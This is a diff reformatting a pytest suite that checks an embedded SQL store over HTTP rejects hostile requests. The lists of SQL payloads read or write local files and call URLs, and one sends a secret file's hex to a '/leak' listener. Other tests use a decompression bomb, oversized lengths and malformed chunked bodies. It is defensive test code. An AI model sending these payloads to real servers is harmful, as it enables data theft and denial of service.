@@ -1,4 +1,5 @@
-"""What a page, a stranger, a reader and the writer tried on the embedded store over HTTP, each as it was sent."""
+"""What a page, a stranger, a reader and the writer tried on the embedded store over HTTP, each as
+it was sent."""
 
 from __future__ import annotations
 
@@ -42,7 +43,8 @@ def running(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Store]:
 
 @pytest.fixture
 def secret(running: Store, tmp_path: Path) -> Iterator[list[Path]]:
-    """Files with a secret: one that the kernel keeps from the server, and one that only its own rules protect."""
+    """Files with a secret: one that the kernel keeps from the server, and one that only its own
+    rules protect."""
     inside = running.folder / "secret.csv"
     outside = tmp_path / "secret.csv"
     for file in (inside, outside):
@@ -144,7 +146,10 @@ def test_a_reader_and_a_stranger_make_no_dictionary(running: Store, tmp_path: Pa
         "HTTP(URL 'http://127.0.0.1:1/' FORMAT 'TSV')",
         "CLICKHOUSE(TABLE 'x')",
     ):
-        sql = f"CREATE DICTIONARY d (a String) PRIMARY KEY a SOURCE({found}) LAYOUT(COMPLEX_KEY_HASHED()) LIFETIME(0)"
+        sql = (
+            f"CREATE DICTIONARY d (a String) PRIMARY KEY a SOURCE({found}) "
+            "LAYOUT(COMPLEX_KEY_HASHED()) LIFETIME(0)"
+        )
         for user in ("writer", "reader"):
             assert code(running.ask(sql, user=user)) in (48, 164, 497), (user, sql)
             assert code(running.ask(sql.replace("CREATE", "CREATE OR REPLACE"), user=user)) in (
@@ -156,7 +161,8 @@ def test_a_reader_and_a_stranger_make_no_dictionary(running: Store, tmp_path: Pa
     assert not proof.exists()
 
 
-# A1 to A3: what neither may do, in many spellings. Each is refused by a rule of the server, before the engine sees it.
+# A1 to A3: what neither may do, in many spellings. Each is refused by a rule of the server, before
+# the engine sees it.
 
 REACHING = [
     "SELECT * FROM file('{file}', LineAsString)",
@@ -175,7 +181,8 @@ REACHING = [
     "SELECT * FROM url('http://127.0.0.1:{port}/x', CSV, 'a String')",
     "SELECT * FROM url('http://127.0.0.1:{port}/x')",
     "SELECT * FROM URL /**/ ('http://127.0.0.1:{port}/x')",
-    "SELECT * FROM url(concat('http://127.0.0.1:{port}/leak?d=', hex(file('{file}'))), CSV, 'x String')",
+    "SELECT * FROM url(concat('http://127.0.0.1:{port}/leak?d=', hex(file('{file}'))), CSV, 'x "
+    "String')",
     "SELECT * FROM remote('127.0.0.1:{port}', system.one)",
     "SELECT * FROM remoteSecure('127.0.0.1:{port}', system.one)",
     "SELECT * FROM s3('http://127.0.0.1:{port}/bucket/x', 'CSV', 'a String')",
@@ -246,8 +253,10 @@ REACHING = [
     "SHOW COLUMNS FROM kept WHERE field IN (SELECT c1 FROM kept set, '{file}')",
     "SELECT * REPLACE ((SELECT any(c1) FROM kept set, '{file}') AS a) FROM kept",
     "SELECT * APPLY (x -> (SELECT any(c1) FROM kept set, '{file}')) FROM kept",
-    "SELECT a FROM kept ORDER BY a WITH FILL INTERPOLATE (a AS (SELECT any(c1) FROM kept set, '{file}'))",
-    "SELECT count() OVER w FROM kept WINDOW w AS (ORDER BY (SELECT any(c1) FROM kept set, '{file}'))",
+    "SELECT a FROM kept ORDER BY a WITH FILL INTERPOLATE (a AS (SELECT any(c1) FROM kept set, "
+    "'{file}'))",
+    "SELECT count() OVER w FROM kept WINDOW w AS (ORDER BY (SELECT any(c1) FROM kept set, "
+    "'{file}'))",
     "SELECT * FROM kept LIMIT (SELECT any(c2) FROM kept set, '{file}')",
     "SELECT hasColumnInTable('default', '{file}', 'c1')",
     "SELECT 1 AS show SETTINGS format_schema = '{file}'",
@@ -269,7 +278,8 @@ CHANGING = [
     "INSERT INTO kept VALUES ((SELECT any(c1) FROM kept set, '{file}'))",
     "INSERT INTO kept VALUES ((FROM '{file}'))",
     "INSERT INTO kept SELECT c1 FROM kept set, '{file}'",
-    "CREATE TABLE x (a String) ENGINE = Buffer('default', '{file}', 16, 10, 100, 10, 100, 100, 100)",
+    "CREATE TABLE x (a String) ENGINE = Buffer('default', '{file}', 16, 10, 100, 10, 100, 100, "
+    "100)",
     "KILL QUERY WHERE query_id IN (SELECT c1 FROM kept set, '{file}')",
     "ALTER TABLE kept MODIFY COLUMN a String DEFAULT (SELECT any(c1) FROM kept set, '{file}')",
     "UPDATE kept SET a = (SELECT any(c1) FROM kept set, '{file}') WHERE 1",
@@ -302,17 +312,21 @@ CHANGING = [
     "CREATE TABLE x (a String DEFAULT file('{file}')) ENGINE = Memory",
     "CREATE TABLE x (a String, b String MATERIALIZED file('{file}')) ENGINE = Memory",
     "CREATE TABLE x (a String, b String ALIAS dictGet('d', 'a', a)) ENGINE = Memory",
-    "CREATE TABLE x (a Date, b String) ENGINE = MergeTree ORDER BY a TTL a + length(file('{file}'))",
+    "CREATE TABLE x (a Date, b String) ENGINE = MergeTree ORDER BY a TTL a + "
+    "length(file('{file}'))",
     "CREATE TABLE x (a String, CONSTRAINT c CHECK file('{file}') = a) ENGINE = Memory",
-    "CREATE TABLE x (a String) ENGINE = MergeTree ORDER BY a SETTINGS disk = disk(type = local, path = '{folder}')",
-    "CREATE TABLE x (a String) ENGINE = MergeTree ORDER BY a SETTINGS index_granularity = 1, storage_policy = 's3'",
+    "CREATE TABLE x (a String) ENGINE = MergeTree ORDER BY a SETTINGS disk = disk(type = local, "
+    "path = '{folder}')",
+    "CREATE TABLE x (a String) ENGINE = MergeTree ORDER BY a SETTINGS index_granularity = 1, "
+    "storage_policy = 's3'",
     "CREATE TABLE x (a String) ENGINE = MergeTree PARTITION BY file('{file}') ORDER BY a",
     "CREATE TEMPORARY TABLE x (a String) ENGINE = File(TSV, '{file}')",
     "CREATE VIEW x AS SELECT * FROM file('{file}')",
     "CREATE VIEW x AS SELECT * FROM url('http://127.0.0.1:{port}/')",
     "CREATE VIEW x AS SELECT * FROM '{file}'",
     "CREATE MATERIALIZED VIEW x TO kept AS SELECT file(a) AS a FROM kept",
-    "CREATE MATERIALIZED VIEW x REFRESH EVERY 1 SECOND ENGINE = Memory AS SELECT * FROM url('http://127.0.0.1:{port}/')",
+    "CREATE MATERIALIZED VIEW x REFRESH EVERY 1 SECOND ENGINE = Memory AS SELECT * FROM "
+    "url('http://127.0.0.1:{port}/')",
     "CREATE MATERIALIZED VIEW x REFRESH EVERY 1 SECOND TO `{file}` AS SELECT 1",
     "CREATE MATERIALIZED VIEW x TO '{file}' AS SELECT 1",
     "CREATE MATERIALIZED VIEW x ENGINE = File(TSV, '{file}') AS SELECT 1",
@@ -373,7 +387,8 @@ def _filled(sql: str, file: Path, port: int) -> str:
 def test_nobody_reaches_beyond_the_store(
     running: Store, secret: list[Path], listener: tuple[int, list[bytes]], sql: str
 ) -> None:
-    """Neither writer nor reader, neither by POST nor by GET; no file is read or written, nobody is called."""
+    """Neither writer nor reader, neither by POST nor by GET; no file is read or written, nobody is
+    called."""
     for file in secret:
         asked = _filled(sql, file, listener[0])
         for user in ("writer", "reader"):
@@ -388,7 +403,8 @@ def test_nobody_reaches_beyond_the_store(
 
 
 def test_the_kernel_refuses_too(running: Store, tmp_path: Path) -> None:
-    """On Linux with Landlock the process itself can open no file of others and run nothing, whatever a statement says."""
+    """On Linux with Landlock the process itself can open no file of others and run nothing,
+    whatever a statement says."""
     log = (running.folder.parent / "log").read_text()
     if "not confined" in log:
         pytest.skip(f"this kernel does not confine processes: {log.strip()}")
@@ -397,18 +413,24 @@ def test_the_kernel_refuses_too(running: Store, tmp_path: Path) -> None:
 
 
 SETTINGS = [
-    "output_format_schema", "format_schema", "format_schema_source", "format_template_row", "format_template_resultset",
-    "format_avro_schema_registry_url", "input_format_record_errors_file_path", "url_base", "log_comment", "profile",
-    "allow_introspection_functions", "implicit_select", "storage_file_read_method", "engine_file_truncate_on_insert",
-    "max_query_size", "additional_result_filter", "output_format_protobuf_nullables_with_google_wrappers", "workload",
-    "send_logs_level", "allow_ddl", "use_query_cache", "s3_create_new_file_on_insert", "OUTPUT_FORMAT_SCHEMA",
+    "output_format_schema", "format_schema", "format_schema_source", "format_template_row",
+    "format_template_resultset",
+    "format_avro_schema_registry_url", "input_format_record_errors_file_path", "url_base",
+    "log_comment", "profile",
+    "allow_introspection_functions", "implicit_select", "storage_file_read_method",
+    "engine_file_truncate_on_insert",
+    "max_query_size", "additional_result_filter",
+    "output_format_protobuf_nullables_with_google_wrappers", "workload",
+    "send_logs_level", "allow_ddl", "use_query_cache", "s3_create_new_file_on_insert",
+    "OUTPUT_FORMAT_SCHEMA",
     "output_format_schema ",
 ]  # fmt: skip
 
 
 @pytest.mark.parametrize("name", SETTINGS)
 def test_settings_are_a_list_of_names(running: Store, secret: list[Path], name: str) -> None:
-    """In the URL, in a form, by POST and by GET, for reader and writer; a file that one names stays as it was."""
+    """In the URL, in a form, by POST and by GET, for reader and writer; a file that one names stays
+    as it was."""
     for file in secret:
         for user in ("reader", "writer"):
             named: dict[str, Any] = {name: file}
@@ -478,16 +500,19 @@ def test_a_name_in_a_parameter_is_looked_at(running: Store, secret: list[Path]) 
 
 
 def test_strings_with_a_slash_are_values_elsewhere(running: Store) -> None:
-    """What is no table stays what it is, in clauses of every kind, with parameters, in documents."""
+    """What is no table stays what it is, in clauses of every kind, with parameters, in
+    documents."""
     for user in ("writer", "reader"):
         for sql, found in (
             ("SELECT 'x/*' FROM kept", "x/*"),
             (
-                "SELECT a FROM kept WHERE a NOT IN ('x/y', 'a/b') AND (a, 'x/y') IN (('held', 'x/y'))",
+                "SELECT a FROM kept WHERE a NOT IN ('x/y', 'a/b') AND (a, 'x/y') IN (('held', "
+                "'x/y'))",
                 "held",
             ),
             (
-                "SELECT a.a FROM kept AS a JOIN kept AS b ON a.a = b.a AND a.a != concat('x/y', '{')",
+                "SELECT a.a FROM kept AS a JOIN kept AS b ON a.a = b.a AND a.a != concat('x/y', "
+                "'{')",
                 "held",
             ),
             ("WITH 'x/y' AS p SELECT p FROM kept GROUP BY 'x/y', p ORDER BY 'a/b', p", "x/y"),
@@ -496,7 +521,8 @@ def test_strings_with_a_slash_are_values_elsewhere(running: Store) -> None:
             ("SELECT CAST(0 AS DateTime('Europe/London')) FROM kept", "1970-01-01 01:00:00"),
             ("SELECT CAST('x/y' AS Enum8('x/y' = 1, 'a/b' = 2)) FROM kept", "x/y"),
             (
-                "SELECT name FROM (SELECT 'a/b' AS name FROM kept) WHERE name IN ('a/b') LIMIT 1 BY name",
+                "SELECT name FROM (SELECT 'a/b' AS name FROM kept) WHERE name IN ('a/b') LIMIT 1 "
+                "BY name",
                 "a/b",
             ),
             ("SELECT extract(a, '[a-h]+') FROM kept", "he"),
@@ -504,7 +530,10 @@ def test_strings_with_a_slash_are_values_elsewhere(running: Store) -> None:
             ("SELECT toDateTime(0, 'Europe/London') FROM kept", "1970-01-01 01:00:00"),
         ):
             assert running.ask(sql, user=user, param_x="a/b").body.decode().strip() == found
-        sql = "SELECT a FROM kept WHERE a IN ('held', 'a/b') SETTINGS session_timezone = 'Europe/Berlin', max_threads = 1"
+        sql = (
+            "SELECT a FROM kept WHERE a IN ('held', 'a/b') SETTINGS session_timezone = "
+            "'Europe/Berlin', max_threads = 1"
+        )
         assert (code(running.ask(sql, user=user)), user) in ((0, "writer"), (164, "reader"))
         assert b'"x": "{pipe}"' in running.ask("SELECT '{pipe}' AS x FORMAT JSON", user=user).body
 
@@ -537,7 +566,10 @@ def test_an_external_table_holds_plain_data(running: Store, secret: list[Path]) 
                 "e_format": form,
             }
             rows = data.replace("{file}", str(file))
-            part = f'--b\r\nContent-Disposition: form-data; name="e"; filename="e"\r\n\r\n{rows}\r\n--b--\r\n'
+            part = (
+                '--b\r\nContent-Disposition: form-data; name="e"; '
+                f'filename="e"\r\n\r\n{rows}\r\n--b--\r\n'
+            )
             answer = running.ask(
                 part.encode(),
                 headers={"Content-Type": "multipart/form-data; boundary=b"},
@@ -605,7 +637,8 @@ def test_nothing_answers_without_credentials(running: Store) -> None:
 
 
 def test_credentials_come_as_clickhouse_takes_them(running: Store) -> None:
-    """In three ways in the head; a form is no place for them; a credential without a right scope is none."""
+    """In three ways in the head; a form is no place for them; a credential without a right scope is
+    none."""
     secret = running.secrets["reader"]
     for target, headers in (
         (f"/?user=reader&password={secret}&query=SELECT+1", {}),
@@ -639,7 +672,8 @@ FORM = {"Content-Type": "multipart/form-data; boundary=b"}
 
 
 def test_a_strangers_body_is_not_read(running: Store) -> None:
-    """A form that unpacks to a gigabyte, a chunk without end, a length of 99 GB: refused by the head, memory as it was."""
+    """A form that unpacks to a gigabyte, a chunk without end, a length of 99 GB: refused by the
+    head, memory as it was."""
     before = running.rss_mb
     bomb = zstandard.ZstdCompressor(level=19).compress(_multipart(b" " * (1 << 30)))
     wrong = {"Authorization": basic("writer", "wrong")}
@@ -648,7 +682,10 @@ def test_a_strangers_body_is_not_read(running: Store) -> None:
     ).status in (403, 429)
     for line in ("Content-Length: 99000000000", "Transfer-Encoding: chunked"):
         with connect(running.url) as connection:
-            head = f"POST / HTTP/1.1\r\nHost: localhost\r\nContent-Type: {FORM['Content-Type']}\r\n{line}\r\n\r\n"
+            head = (
+                "POST / HTTP/1.1\r\nHost: localhost\r\nContent-Type: "
+                f"{FORM['Content-Type']}\r\n{line}\r\n\r\n"
+            )
             connection.sendall(head.encode() + (b"FFFFFFFFFFFF\r\n" if "chunked" in line else b""))
             assert connection.recv(20).startswith(b"HTTP/1.1 403 ")
             assert is_cut(connection, bytes(1 << 20), 512 << 20)
@@ -658,7 +695,8 @@ def test_a_strangers_body_is_not_read(running: Store) -> None:
 @pytest.mark.parametrize("user", ["reader", "writer"])
 @pytest.mark.parametrize("coding", ["zstd", "gzip"])
 def test_plain_bytes_are_counted(running: Store, user: str, coding: str) -> None:
-    """Statements of blanks, forms, and data for a table, packed a thousandfold: refused, memory as it was."""
+    """Statements of blanks, forms, and data for a table, packed a thousandfold: refused, memory as
+    it was."""
     before = running.rss_mb
     pack = zstandard.ZstdCompressor(level=19).compress if coding == "zstd" else gzip.compress
     blanks = b" " * (1 << 29)
@@ -677,7 +715,8 @@ def test_plain_bytes_are_counted(running: Store, user: str, coding: str) -> None
 
 
 def test_an_answer_to_a_reader_is_bounded(running: Store) -> None:
-    """In bytes as they are sent, in every format, also where the names of columns are what is long."""
+    """In bytes as they are sent, in every format, also where the names of columns are what is
+    long."""
     for sql in (
         "SELECT number FROM numbers(30000000) FORMAT JSON",
         "SELECT number FROM numbers(30000000) FORMAT TSV",
@@ -705,17 +744,24 @@ def test_an_answer_to_a_reader_is_bounded(running: Store) -> None:
 
 
 def test_a_large_document_is_not_held_whole(running: Store) -> None:
-    """An answer in a format with a head and a tail goes out as it is made, and stops being made when nobody takes it."""
+    """An answer in a format with a head and a tail goes out as it is made, and stops being made
+    when nobody takes it."""
     before = running.rss_mb
     sql = "SELECT number FROM numbers(30000000) FORMAT JSON"
-    head = f"POST / HTTP/1.1\r\nHost: localhost\r\nAuthorization: {basic('writer', running.secrets['writer'])}\r\n"
+    head = (
+        "POST / HTTP/1.1\r\nHost: localhost\r\nAuthorization: "
+        f"{basic('writer', running.secrets['writer'])}\r\n"
+    )
     with connect(running.url) as one:
         one.sendall(f"{head}Content-Length: {len(sql)}\r\n\r\n{sql}".encode())
         size = 0
         while size < 400 << 20:
             size += len(one.recv(1 << 20))
         assert running.rss_mb < before + 400
-    look = "SELECT count() FROM system.processes WHERE query LIKE '%30000000%' AND query NOT LIKE '%processes%'"
+    look = (
+        "SELECT count() FROM system.processes WHERE query LIKE '%30000000%' AND query NOT LIKE "
+        "'%processes%'"
+    )
     wait_until(lambda: running.value(look) == "0", 60, "the query has ended")
     for text, number in (
         ("SELECT throwIf(number = 5) FROM numbers(10) FORMAT JSON", 395),
@@ -747,7 +793,8 @@ def test_statements_are_looked_at_in_time_that_grows_with_them(running: Store) -
 
 
 def test_many_idle_connections_do_not_cancel_queries(running: Store) -> None:
-    """With more than a thousand of them open, also with half requests, a query of two seconds ends as it should."""
+    """With more than a thousand of them open, also with half requests, a query of two seconds ends
+    as it should."""
     held = [connect(running.url) for _ in range(1100)]
     try:
         for one in held[:300]:
@@ -769,11 +816,15 @@ def test_a_query_ends_when_its_client_leaves(running: Store, user: str) -> None:
         f"SELECT count() FROM numbers(1000000000000) WHERE sipHash64(number) = 7 AND '{mark}' != ''"
     )
     assert code(running.ask(sql, user=user, log_comment="mine")) in (164, 452)
-    look = f"SELECT count() FROM system.processes WHERE query LIKE '%{mark}%' AND query NOT LIKE '%processes%'"
+    look = (
+        f"SELECT count() FROM system.processes WHERE query LIKE '%{mark}%' AND query NOT LIKE "
+        "'%processes%'"
+    )
     with connect(running.url) as one:
         login = basic(user, running.secrets[user])
         one.sendall(
-            f"POST / HTTP/1.1\r\nHost: localhost\r\nAuthorization: {login}\r\nContent-Length: {len(sql)}\r\n\r\n{sql}".encode()
+            f"POST / HTTP/1.1\r\nHost: localhost\r\nAuthorization: {login}\r\nContent-Length: "
+            f"{len(sql)}\r\n\r\n{sql}".encode()
         )
         wait_until(lambda: running.value(look) == "1", 60, "the query runs")
     wait_until(lambda: running.value(look) == "0", 60, "the query has ended")
@@ -814,7 +865,10 @@ def test_a_request_is_taken_apart_strictly(running: Store) -> None:
         head = f"POST / HTTP/1.1\r\nHost: localhost\r\n{login}{line}\r\n\r\nSELECT 1"
         assert send(running.url, head.encode()).status in (400, 0)
     for size in ("+8", "0x8", " 8", "8_", "1_0"):
-        head = f"POST / HTTP/1.1\r\nHost: localhost\r\n{login}Transfer-Encoding: chunked\r\n\r\n{size}\r\nSELECT 1\r\n0\r\n\r\n"
+        head = (
+            f"POST / HTTP/1.1\r\nHost: localhost\r\n{login}Transfer-Encoding: "
+            f"chunked\r\n\r\n{size}\r\nSELECT 1\r\n0\r\n\r\n"
+        )
         assert send(running.url, head.encode()).status in (400, 0)
     one = f"GET /?query=SELECT+1 HTTP/1.1\r\nHost: localhost\r\n{login}\r\n"
     with connect(running.url) as connection:
@@ -848,7 +902,8 @@ def test_a_credential_file_is_needed(tmp_path: Path) -> None:
 
 
 def test_what_an_earlier_release_let_somebody_make_reaches_nothing(tmp_path: Path) -> None:
-    """Views and tables that read files are still there after an upgrade: no statement may name them; others go on."""
+    """Views and tables that read files are still there after an upgrade: no statement may name
+    them; others go on."""
     import subprocess
     import sys
 
@@ -861,11 +916,16 @@ def test_what_an_earlier_release_let_somebody_make_reaches_nothing(tmp_path: Pat
         f"CREATE VIEW by_string AS SELECT c1 FROM kept AS where, '{file}'",
         f"CREATE VIEW by_function AS SELECT file('{file}') AS x",
         f"CREATE VIEW by_table_function AS SELECT * FROM file('{file}', 'LineAsString')",
-        f"CREATE TABLE by_buffer (c1 String) ENGINE = Buffer('default', '{file}', 16, 10, 100, 10, 100, 100, 100)",
-        f"CREATE TABLE by_default (a String, b String DEFAULT file('{file}')) ENGINE = MergeTree ORDER BY a",
+        f"CREATE TABLE by_buffer (c1 String) ENGINE = Buffer('default', '{file}', 16, 10, 100, 10, "
+        "100, 100, 100)",
+        f"CREATE TABLE by_default (a String, b String DEFAULT file('{file}')) ENGINE = MergeTree "
+        "ORDER BY a",
         "CREATE VIEW plain AS SELECT a FROM kept",
     ]
-    code_of_old = "import chdb, sys\nc = chdb.connect(sys.argv[1])\nfor sql in sys.argv[2:]:\n    c.query(sql)\nc.close()"
+    code_of_old = (
+        "import chdb, sys\nc = chdb.connect(sys.argv[1])\nfor sql in sys.argv[2:]:\n    "
+        "c.query(sql)\nc.close()"
+    )
     subprocess.run(
         [sys.executable, "-c", code_of_old, str(file.parent / "store"), *made],
         check=True,
